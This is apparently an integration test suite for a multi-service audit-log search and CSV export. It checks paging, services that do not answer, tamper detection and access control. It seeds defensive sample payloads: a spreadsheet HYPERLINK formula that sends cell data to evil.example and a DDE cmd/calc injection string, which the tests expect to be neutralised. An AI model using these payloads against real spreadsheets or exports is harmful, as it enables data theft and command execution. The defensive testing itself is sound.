"""The operators' audit search across services (S2, issue 3): what staff did in consent and timeline is found
by subject and by user from the identity admin, page by page and as a CSV a spreadsheet opens safely."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date
from uuid import UUID, uuid4

import httpx
from identity.audit_search.service import CSV_COLUMNS
from markupsafe import escape
from sqlalchemy import text
from yui_common import audit
from yui_common.web import translate

from tests.support.stack import Stack, Staff, eventually

HOSTILE_TARGET = '=HYPERLINK("http://evil.example/steal?d="&A1,"詳細")'
HOSTILE_ACTION = "@SUM(1+1)*cmd|' /C calc'!A0"
ENTRY = re.compile(r'data-entry="([a-z]+):([0-9a-f-]{36})"')


async def subject_with_post(stack: Stack, doctor: Staff) -> tuple[UUID, str]:
    """The doctor registers a subject, records consent, posts to the timeline and reads the post back."""
    consent = stack["consent"].client
    created = await consent.post(
        "/subjects",
        json={
            "name": "監査 太郎",
            "name_kana": "カンサ タロウ",
            "municipality_code": "232360",
            "confirm_not_duplicate": True,
        },
        headers=doctor.headers,
    )
    assert created.status_code == 201, created.text
    subject_id = UUID(created.json()["id"])
    given = await consent.post(
        f"/subjects/{subject_id}/consents", json={"given_on": str(date.today())}, headers=doctor.headers
    )
    assert given.status_code == 201, given.text
    timeline = stack["timeline"].client

    async def posted() -> dict | None:
        response = await timeline.post(
            f"/subjects/{subject_id}/posts",
            json={"category": "visit", "body": "訪問しました"},
            headers=doctor.headers,
        )
        return response.json() if response.status_code == 201 else None

    post = await eventually(posted, what="timeline to learn of the consent")
    read = await timeline.get(f"/posts/{post['id']}", headers=doctor.headers)
    assert read.status_code == 200, read.text
    assert (await consent.get(f"/subjects/{subject_id}", headers=doctor.headers)).status_code == 200
    return subject_id, str(post["id"])


async def seed_hostile_entry(stack: Stack, doctor: Staff, subject_id: UUID) -> str:
    """A typed value, should a use case ever copy one into an entry: it must stay text in a spreadsheet."""
    async with stack["timeline"].sessionmaker() as session, session.begin():
        return await audit.record(
            session,
            tenant=doctor.tenant,
            actor_id=str(doctor.user_id),
            facility_id=str(doctor.facility_id),
            subject_id=str(subject_id),
            action=HOSTILE_ACTION,
            target=HOSTILE_TARGET,
            detail={"note": "=1+1"},
        )


def entries_on(page: str) -> list[tuple[str, str]]:
    return [(m.group(1), m.group(2)) for m in ENTRY.finditer(page)]


def service_rows(page: str) -> dict[str, tuple[str, str]]:
    rows = re.findall(r'data-service="([a-z]+)" data-answered="(yes|no)"\s+data-chain="([a-z-]+)"', page)
    return {service: (answered, chain) for service, answered, chain in rows}


def parsed_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    assert b"\r\n" in response.content and b"\n" not in response.content.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == [translate("ja", f"audit.column.{column}") for column in CSV_COLUMNS]
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


async def chain_state(stack: Stack, service: str) -> str:
    async with stack[service].sessionmaker() as session:
        _, breaks = await audit.verify_chain(session)
    return "broken" if breaks else "intact"


class TestOperatorsAuditSearch:
    async def test_i_audit_search_finds_staff_actions_across_services_by_subject_and_user_and_exports_csv(
        self, stack: Stack
    ) -> None:
        doctor = stack.staff()
        operator = stack.staff(roles=("operator",))
        subject_id, post_id = await subject_with_post(stack, doctor)
        hostile_id = await seed_hostile_entry(stack, doctor, subject_id)
        identity = stack["identity"].client

        by_subject = await identity.get(
            "/admin/audit", params={"subject_id": str(subject_id)}, headers=operator.headers
        )
        assert by_subject.status_code == 200, by_subject.text
        page = by_subject.text
        assert "監査ログ検索" in page
        found = entries_on(page)
        assert {service for service, _ in found} == {"consent", "timeline"}
        for action in ("subject.register", "consent.give", "subject.read", "post.create", "post.read"):
            assert f"<code>{action}</code>" in page
        assert ("timeline", hostile_id) in found
        assert str(escape(HOSTILE_TARGET)) in page  # shown as text, escaped
        rows = service_rows(page)
        assert set(rows) == {"identity", "consent", "timeline", "portal", "notify", "federation"}
        assert set(rows.values()) == {("yes", "not-checked")}  # a search does not walk the chains
        verified = await identity.get(
            "/admin/audit", params={"subject_id": str(subject_id), "verify": "1"}, headers=operator.headers
        )
        for service, (answered, chain) in service_rows(verified.text).items():
            assert answered == "yes"
            assert chain == await chain_state(stack, service)

        by_user = await identity.get(
            "/admin/audit", params={"user_id": str(doctor.user_id)}, headers=operator.headers
        )
        assert by_user.status_code == 200, by_user.text
        assert {service for service, _ in entries_on(by_user.text)} == {"consent", "timeline"}
        assert f"{post_id}" in by_user.text

        exported = parsed_csv(
            await identity.get(
                "/admin/audit.csv", params={"subject_id": str(subject_id)}, headers=operator.headers
            )
        )
        services = {row["service"] for row in exported}
        assert {
            translate("ja", "audit.service.consent"),
            translate("ja", "audit.service.timeline"),
        } <= services
        actions = {row["action"] for row in exported}
        assert {"subject.register", "consent.give", "post.create", "post.read"} <= actions
        [hostile] = [row for row in exported if row["id"] == hostile_id]
        assert hostile["target"] == "'" + HOSTILE_TARGET
        assert hostile["action"] == "'" + HOSTILE_ACTION
        assert hostile["detail"] == '{"note": "=1+1"}'
        for row in exported:
            assert row["subject_id"] in ("", str(subject_id))
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@")), cell
        # Newest first, in the network's local time.
        times = [row["occurred_at"] for row in exported]
        assert times == sorted(times, reverse=True) and all(t.endswith("+09:00") for t in times)

        # Reading the audit log was itself audited, in every service asked, under the subject searched for.
        searches = await identity.get(
            "/admin/audit.csv",
            params={"user_id": str(operator.user_id), "action": "audit.search"},
            headers=operator.headers,
        )
        searched = parsed_csv(searches)
        assert {row["subject_id"] for row in searched} >= {str(subject_id)}
        assert (
            len({row["service"] for row in searched}) == 6
        )  # every service: identity, consent, timeline, portal, notify, federation

    async def test_i_audit_search_pages_merge_every_service_by_time(self, stack: Stack) -> None:
        doctor = stack.staff()
        operator = stack.staff(roles=("operator",))
        subject_id, _ = await subject_with_post(stack, doctor)
        identity = stack["identity"].client
        paged: list[tuple[str, str]] = []
        query: str | None = f"subject_id={subject_id}&limit=2"
        while query:
            response = await identity.get(f"/admin/audit?{html.unescape(query)}", headers=operator.headers)
            assert response.status_code == 200, response.text
            shown = entries_on(response.text)
            assert len(shown) <= 2
            # A chain is walked only when the operator asks (verify=1), never as a cost of a search page.
            chains = {chain for _, chain in service_rows(response.text).values()}
            assert chains == {"not-checked"}
            paged += shown
            following = re.search(r'rel="next" href="/admin/audit\?([^"]+)"', response.text)
            query = following.group(1) if following else None
        exported = parsed_csv(
            await identity.get(
                "/admin/audit.csv", params={"subject_id": str(subject_id)}, headers=operator.headers
            )
        )
        # The searches add their own entries as they go (filed under the subject); the rest matches exactly.
        names = {translate("ja", f"audit.service.{s}"): s for s in ("consent", "timeline", "identity")}
        expected = [
            (names[row["service"]], row["id"]) for row in exported if not row["action"].startswith("audit.")
        ]
        assert len(paged) == len(set(paged))
        assert [entry for entry in paged if entry in set(expected)] == expected
        assert len(expected) >= 5

    async def test_i_audit_search_names_the_services_that_did_not_answer(self, stack: Stack) -> None:
        doctor = stack.staff()
        operator = stack.staff(roles=("operator",))
        subject_id, _ = await subject_with_post(stack, doctor)
        identity = stack["identity"].client
        clients = stack["identity"].app.state.audit_service_clients
        answering = clients["notify"]
        # Nothing listens on the discard port: the connection is refused, as when notify is down.
        async with httpx.AsyncClient(base_url="http://127.0.0.1:9", timeout=5) as down:
            clients["notify"] = down
            try:
                response = await identity.get(
                    "/admin/audit", params={"subject_id": str(subject_id)}, headers=operator.headers
                )
                exported = await identity.get(
                    "/admin/audit.csv", params={"subject_id": str(subject_id)}, headers=operator.headers
                )
            finally:
                clients["notify"] = answering
        assert response.status_code == 200, response.text
        assert service_rows(response.text)["notify"] == ("no", "not-checked")
        assert service_rows(response.text)["timeline"][0] == "yes"
        assert "応答がなかった" in response.text and "通知" in response.text
        assert {service for service, _ in entries_on(response.text)} == {"consent", "timeline"}
        assert exported.headers["x-yui-audit-unanswered"] == "notify"
        assert len(parsed_csv(exported)) >= 5

    async def test_i_audit_search_shows_a_broken_chain(self, stack: Stack) -> None:
        operator = stack.staff(roles=("operator",))
        async with stack["portal"].sessionmaker() as session, session.begin():
            entry_id = await audit.record(session, tenant="demo", actor_id=str(uuid4()), action="notice.read")
        tamper = "UPDATE audit_log SET action = :action WHERE id = :id"
        async with stack["portal"].sessionmaker() as session, session.begin():
            await session.execute(text("ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update"))
            await session.execute(text(tamper), {"action": "notice.delete", "id": entry_id})
            await session.execute(text("ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update"))
        try:
            page = await stack["identity"].client.get("/admin/audit?verify=1", headers=operator.headers)
        finally:
            async with stack["portal"].sessionmaker() as session, session.begin():
                await session.execute(text("ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update"))
                await session.execute(text(tamper), {"action": "notice.read", "id": entry_id})
                await session.execute(text("ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update"))
        assert page.status_code == 200, page.text
        assert service_rows(page.text)["portal"] == ("yes", "broken")
        assert "改ざんの疑い: 1 か所" in page.text
        assert await chain_state(stack, "portal") == "intact"

    async def test_i_audit_search_is_for_the_networks_operator_only(self, stack: Stack) -> None:
        doctor = stack.staff()
        subject_id, _ = await subject_with_post(stack, doctor)
        identity = stack["identity"].client
        contractor = stack.staff(roles=("contractor",))
        for path in ("/admin/audit", "/admin/audit.csv"):
            refused = await identity.get(path, headers=contractor.headers)
            assert refused.status_code == 403 and "運用者だけ" in refused.text
            for roles in (("staff",), ("facility_admin",)):
                someone = stack.staff(roles=roles)
                redirected = await identity.get(path, headers=someone.headers)
                assert redirected.status_code == 303 and redirected.headers["location"].endswith(
                    "/admin/login"
                )
        elsewhere = stack.staff(tenant="audit-elsewhere", roles=("operator",))
        other = await identity.get(
            "/admin/audit", params={"subject_id": str(subject_id)}, headers=elsewhere.headers
        )
        assert other.status_code == 200 and entries_on(other.text) == []

    async def test_i_audit_search_asks_to_correct_bad_input(self, stack: Stack) -> None:
        operator = stack.staff(roles=("operator",))
        identity = stack["identity"].client
        for params, message in (
            ({"since": "2026-13-01T00:00"}, "開始日時を読み取れません"),
            ({"since": "2026-11-02T00:00", "until": "2026-11-01T00:00"}, "開始日時は終了日時より前"),
            ({"cursor": "garbage!"}, "ページの指定が正しくありません"),
        ):
            response = await identity.get("/admin/audit", params=params, headers=operator.headers)
            assert response.status_code == 422 and message in response.text
        # A local time from the form is the network's (Asia/Tokyo): nothing happens in the future.
        future = await identity.get(
            "/admin/audit", params={"since": "2999-01-01T00:00"}, headers=operator.headers
        )
        assert future.status_code == 200 and entries_on(future.text) == []
